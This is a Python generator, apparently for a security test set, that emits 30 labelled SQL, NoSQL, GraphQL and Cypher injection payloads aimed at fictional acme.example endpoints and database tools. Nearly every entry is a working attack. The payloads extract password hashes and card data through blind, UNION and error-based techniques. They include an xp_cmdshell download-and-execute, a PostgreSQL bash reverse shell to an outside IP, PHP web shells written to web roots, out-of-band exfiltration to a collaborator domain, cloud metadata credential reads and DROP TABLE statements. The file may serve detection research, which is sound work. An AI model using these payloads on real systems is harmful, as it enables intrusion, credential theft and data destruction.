"""sql_injection attacks: ORM/filter-string, reporting tools, search boxes, GraphQL/REST filters,
per-dialect blind/time/OOB/file primitives, second-order and NoSQL operator injection."""
import json
from common import E, rng, pct, dpct, fullwidth, SRC_SECL, SRC_PATT, SRC_OWASP, SRC_PS, SRC_HT, SRC_OWN

OOB = "x7k2.oast-collab.net"


def build():
    r = rng("sql")
    out = []
    # 1 REST ordering param -> ORDER BY boolean blind (Django/DRF OrderingFilter misuse, raw ORDER BY)
    out.append(E("http.request", "ORDER BY injection through REST 'ordering' parameter (boolean CASE oracle)",
                 SRC_PS + " (SQL injection in ORDER BY)",
                 {"method": "GET", "url": "https://shop.acme.example/api/v2/orders/",
                  "params": {"page": 3, "page_size": 50,
                             "ordering": "(CASE WHEN (SELECT substr(password,1,1) FROM auth_user WHERE is_superuser LIMIT 1)='p' THEN created_at ELSE id END)"},
                  "headers": {"Accept": "application/json"}}))
    # 2 Rails ActiveRecord pluck / order injection
    out.append(E("http.request", "ActiveRecord order()/pluck() column-name injection via sort param",
                 "rails-sqli.org (Rails SQL Injection examples)",
                 {"method": "GET", "url": "https://crm.acme.example/contacts.json",
                  "params": {"sort": "name, (SELECT CASE WHEN (SELECT 1 FROM users WHERE admin=true AND substr(encrypted_password,8,1)='a') THEN pg_sleep(4) END)--",
                             "direction": "asc", "q[company_eq]": "Globex"}}))
    # 3 Hibernate HQL
    out.append(E("reporting.run_query", "HQL injection through a reporting filter",
                 "Synacktiv / " + SRC_HT + " (HQL injection)",
                 {"report": "open_invoices_by_customer", "engine": "hibernate",
                  "filters": {"customer": "ACME' and (select count(u) from AppUser u where u.role='ADMIN' and substring(u.passwordHash,1,4)='$2a$')>0 and 'a'='a",
                              "status": "OPEN"}, "format": "xlsx"}))
    # 4 GraphQL raw filter string
    q = ('query { invoices(filter: "status = \'paid\') UNION SELECT id, email, password_hash, api_key, NULL FROM users --", first: 100) '
         '{ edges { node { id number total customerEmail } } } }')
    out.append(E("graphql.query", "UNION read through a GraphQL string filter argument concatenated into SQL",
                 "OWASP GraphQL Cheat Sheet / " + SRC_PATT,
                 {"endpoint": "https://billing.acme.example/graphql", "query": q, "variables": {}, "operationName": None}))
    # 5 GraphQL variables - JSON in JSON
    out.append(E("graphql.query", "time-based blind inside GraphQL variables (JSON string)",
                 SRC_OWN,
                 {"endpoint": "https://api.acme.example/graphql",
                  "query": "query Search($term: String!) { products(search: $term) { id name price } }",
                  "variables": json.dumps({"term": "lamp%' AND 4821=(SELECT 4821 FROM PG_SLEEP(6)) AND '%'='"}),
                  "operationName": "Search"}))
    # 6 JSON:API / RSQL filter syntaxes
    out.append(E("http.request", "RSQL/FIQL filter string breaking out into stacked statement",
                 SRC_OWN,
                 {"method": "GET", "url": "https://inventory.acme.example/api/items",
                  "params": {"filter": "category=='tools';price=lt=100;name=='x\\'); DROP TABLE items; --'",
                             "fields[items]": "name,price"}}))
    out.append(E("http.request", "OData $filter tautology passed through to SQL provider",
                 SRC_OWN,
                 {"method": "GET", "url": "https://erp.acme.example/odata/v4/Customers",
                  "params": {"$filter": "Country eq 'DE' or 1 eq 1) or (1 eq 1", "$select": "Id,Name,CreditLimit,TaxId,IBAN",
                             "$top": "5000"}}))
    # 8 search box LIKE, URL double-encoded
    out.append(E("http.request", "double percent-encoded search box injection (UNION on MySQL)",
                 SRC_SECL + " (Fuzzing/SQLi)",
                 {"method": "GET", "url": "https://docs.acme.example/search?q=" + dpct("vpn%' UNION ALL SELECT user,authentication_string,host,4 FROM mysql.user-- -"),
                  "headers": {"User-Agent": "Mozilla/5.0"}}))
    # 9 header injection sqlmap style
    out.append(E("http.request", "X-Forwarded-For header time-based blind (MySQL SLEEP subquery)",
                 "sqlmap payloads (boundaries.xml/payloads)",
                 {"method": "POST", "url": "https://portal.acme.example/login",
                  "headers": {"X-Forwarded-For": "127.0.0.1' AND (SELECT 9482 FROM (SELECT(SLEEP(7)))kIoS)-- wXyZ",
                              "Content-Type": "application/x-www-form-urlencoded"},
                  "body": "username=jdoe&password=Winter2024"}))
    # 10 MSSQL stacked xp_cmdshell
    out.append(E("db.query", "MSSQL stacked queries enabling xp_cmdshell",
                 SRC_PATT + " (MSSQL Injection)",
                 {"connection": "reporting-mssql", "database": "Sales",
                  "sql": "SELECT TOP 20 * FROM dbo.Orders WHERE Region = 'West'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC master..xp_cmdshell 'powershell -nop -c \"iwr http://203.0.113.77/a.ps1|iex\"';--'",
                  "timeout_s": 60}))
    # 11 MSSQL OOB xp_dirtree
    out.append(E("reporting.run_query", "MSSQL out-of-band exfiltration via xp_dirtree UNC path",
                 SRC_PATT + " (MSSQL OOB)",
                 {"report": "dso_trend", "parameters": {"from": "2024-01-01", "to": "2024-03-31",
                  "warehouse": "WH1'; DECLARE @q varchar(1024); SET @q='\\\\'+(SELECT TOP 1 CONVERT(varchar(256),password_hash,2) FROM sys.sql_logins WHERE name='sa')+'.%s\\x'; EXEC master.dbo.xp_dirtree @q;--" % OOB}}))
    # 12 Oracle OOB and time
    out.append(E("db.query", "Oracle OOB via UTL_INADDR and DBMS_PIPE time delay",
                 SRC_PATT + " (Oracle Injection)",
                 {"connection": "ora-finance", "sql": "SELECT invoice_no, amount FROM ap_invoices WHERE vendor_id = '1042' AND 1=(SELECT CASE WHEN (SELECT COUNT(*) FROM dba_users)>0 THEN UTL_INADDR.get_host_address((SELECT password FROM sys.user$ WHERE name='SYS')||'.%s') ELSE TO_CHAR(DBMS_PIPE.RECEIVE_MESSAGE('x',10)) END FROM dual)" % OOB,
                  "max_rows": 200}))
    # 13 Oracle XXE through extractvalue
    out.append(E("http.request", "Oracle XMLType XXE out-of-band inside a filter value",
                 SRC_PS + " (Blind SQLi OAST)",
                 {"method": "GET", "url": "https://hr.acme.example/api/employees",
                  "params": {"dept": "'||(SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY % remote SYSTEM \"http://'||(SELECT password FROM users WHERE username='administrator')||'.%s/\"> %remote;]>'),'/l') FROM dual)||'" .replace("%s", OOB)}}))
    # 14 PostgreSQL COPY TO PROGRAM
    out.append(E("db.query", "PostgreSQL COPY ... TO PROGRAM command execution",
                 "CVE-2019-9193 write-up",
                 {"connection": "analytics-pg", "sql": "SELECT 1; DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'bash -c \"bash -i >& /dev/tcp/198.51.100.23/5432 0>&1\"'; SELECT * FROM cmd_exec;",
                  "read_only": False}))
    # 15 PostgreSQL error-based + file read via search box
    out.append(E("search.query", "PostgreSQL CAST error-based read of pg_read_file",
                 SRC_PATT + " (PostgreSQL Injection)",
                 {"index": "tickets", "query": "printer' AND 1=CAST((SELECT pg_read_file('/etc/postgresql/16/main/pg_hba.conf')) AS int)--",
                  "page": 1, "highlight": True}))
    # 16 MySQL INTO OUTFILE webshell, versioned comments
    out.append(E("db.query", "MySQL versioned comments and INTO OUTFILE web shell",
                 SRC_PATT + " (MySQL Injection: WAF bypass)",
                 {"connection": "cms-mysql", "sql": "SELECT title FROM posts WHERE slug='hello' /*!50000UnIoN*/ /*!50000SeLeCt*/ '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/wp-content/uploads/.cache.php'-- -",
                  "limit": 10}))
    # 17 MySQL error-based extractvalue + comment-split keywords
    out.append(E("http.request", "comment-split keywords and EXTRACTVALUE error-based read",
                 SRC_PATT,
                 {"method": "POST", "url": "https://shop.acme.example/cart/apply-coupon",
                  "json": {"coupon": "SPRING10'/**/AND/**/EXTRACTVALUE(1,CONCAT(0x7e,(SEL/**/ECT/**/GROUP_CONCAT(email,0x3a,password)/**/FR/**/OM/**/customers/**/LIMIT/**/0,3)))#",
                           "cart_id": "c_%d" % r.randint(10000, 99999)}}))
    # 18 MySQL DNS exfil LOAD_FILE UNC
    out.append(E("db.query", "MySQL LOAD_FILE UNC path DNS exfiltration (Windows host)",
                 SRC_PATT + " (MySQL OOB)",
                 {"connection": "legacy-mysql-win", "sql": "SELECT * FROM products WHERE id=12 AND (SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT HEX(authentication_string) FROM mysql.user WHERE user='root' LIMIT 1),'.%s\\\\a')))" % OOB}))
    # 19 SQLite ATTACH webshell + sqlite_master
    out.append(E("db.query", "SQLite ATTACH DATABASE writing a PHP file; sqlite_master enumeration",
                 SRC_PATT + " (SQLite Injection)",
                 {"connection": "app-sqlite", "sql": "SELECT name FROM notes WHERE owner='u1' UNION SELECT sql FROM sqlite_master--'; ATTACH DATABASE '/var/www/html/n.php' AS lol; CREATE TABLE lol.pwn (dataz text); INSERT INTO lol.pwn (dataz) VALUES (\"<?php system($_GET['cmd']); ?>\");--"}))
    # 20 SQLite heavy query time blind via filter string
    out.append(E("http.request", "SQLite randomblob heavy-query time oracle in a JSON filter",
                 SRC_PATT + " (SQLite blind)",
                 {"method": "POST", "url": "https://notes.acme.example/api/search",
                  "json": {"where": "tag = 'work' AND 1=(CASE WHEN (substr((SELECT token FROM sessions LIMIT 1),1,1)='e') THEN (LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))) ELSE 1 END)",
                           "limit": 20}}))
    # 21 second-order stored username
    out.append(E("users.create", "second-order injection: stored username later concatenated into UPDATE",
                 SRC_OWASP + " / " + SRC_PS,
                 {"username": "administrator'-- -", "email": "a.novak@proton.example", "display_name": "Ana Novak",
                  "password": "Tr0ub4dor&3", "profile": {"locale": "en-GB", "newsletter": False}}))
    # 22 NoSQL: $ne / $gt login bypass in JSON and in bracket query string
    out.append(E("http.request", "MongoDB operator injection ($ne/$gt) login bypass",
                 SRC_PATT + " (NoSQL Injection)",
                 {"method": "POST", "url": "https://app.acme.example/api/auth/login",
                  "json": {"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$ne": None}, "remember": True}}))
    out.append(E("http.request", "bracket-syntax NoSQL operators in urlencoded body with $regex extraction",
                 SRC_PATT + " (NoSQL Injection)",
                 {"method": "POST", "url": "https://app.acme.example/reset",
                  "headers": {"Content-Type": "application/x-www-form-urlencoded"},
                  "body": "email%5B%24regex%5D=%5Eadmin%40&token%5B%24regex%5D=%5E7f&token%5B%24options%5D=i"}))
    # 24 $where / $function server-side JS
    out.append(E("mongo.find", "$where / $function server-side JavaScript (time oracle)",
                 SRC_PATT + " (NoSQL Injection)",
                 {"database": "crm", "collection": "customers",
                  "filter": {"$where": "function(){ if (this.role == 'admin' && this.apiKey.match(/^sk_l/)) { var d=new Date(); while(new Date()-d<5000){} } return true; }"},
                  "projection": {"name": 1}, "limit": 1}))
    out.append(E("mongo.aggregate", "aggregation $lookup pivot to other collection plus $function",
                 "MongoDB docs ($lookup, $function) / own design",
                 {"database": "shop", "collection": "reviews",
                  "pipeline": [{"$match": {"productId": "P-1001"}},
                               {"$lookup": {"from": "users", "pipeline": [{"$match": {"role": "admin"}}, {"$project": {"email": 1, "passwordHash": 1, "mfaSecret": 1}}], "as": "x"}},
                               {"$addFields": {"t": {"$function": {"body": "function(){return require('child_process')}", "args": [], "lang": "js"}}}}]}))
    # 26 JSON-operator WAF bypass (Team82)
    out.append(E("http.request", "JSON-operator syntax WAF bypass (PostgreSQL @> tautology)",
                 "Claroty Team82, 'JS-ON: Security-OFF' (2022)",
                 {"method": "GET", "url": "https://status.acme.example/api/incidents",
                  "params": {"service": "api' OR '{\"b\":2}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb UNION SELECT usename,passwd,NULL FROM pg_shadow--"}}))
    # 27 fullwidth quote + unicode-escaped JSON in ORM filter
    out.append(E("orm.filter", "fullwidth apostrophe and unicode-escaped keywords in a whereRaw filter",
                 SRC_OWN,
                 {"model": "Invoice", "where_raw": fullwidth("'") + " OR 1=1 UNION SELECT card_number,cvv,exp FROM payment_methods--",
                  "params_json": "{\"status\": \"open\\u0027 \\u0055NION SELECT token FROM api_keys--\"}", "limit": 100}))
    # 28 BigQuery/ClickHouse in BI tool
    out.append(E("bi.dashboard_filter", "ClickHouse url() table function and system tables through BI filter",
                 "ClickHouse docs (url table function) / own design",
                 {"dashboard_id": 418, "filter": {"field": "country",
                  "value": "FR') UNION ALL SELECT name, create_table_query FROM system.tables UNION ALL SELECT *, '' FROM url('http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'LineAsString') --"}}))
    # 29 Knex/Sequelize replacements-ish: boolean blind with ASCII/SUBSTRING in MSSQL via "q"
    out.append(E("http.request", "MSSQL boolean blind with WAITFOR DELAY in a grid export endpoint",
                 SRC_PATT + " (MSSQL Injection)",
                 {"method": "GET", "url": "https://ops.acme.example/grid/export.csv?columns=id,name&sort=name%20ASC;IF(ASCII(SUBSTRING((SELECT%20TOP%201%20name%20FROM%20sys.databases%20WHERE%20database_id=5),1,1))>77)%20WAITFOR%20DELAY%20'0:0:6'--",
                  "headers": {"Accept": "text/csv"}}))
    # 30 Cypher injection with apoc exfil
    out.append(E("graph.query", "Cypher injection with LOAD CSV exfiltration",
                 "Varonis / Neo4j Cypher injection research",
                 {"database": "neo4j", "cypher": "MATCH (p:Person) WHERE p.name = 'Alice' OR 1=1 WITH 1 AS x CALL dbms.listConfig() YIELD name, value LOAD CSV FROM 'https://%s/?'+name+'='+value AS y RETURN 1 //'" % OOB,
                  "params": {}}))
    assert len(out) == 30, len(out)
    return out
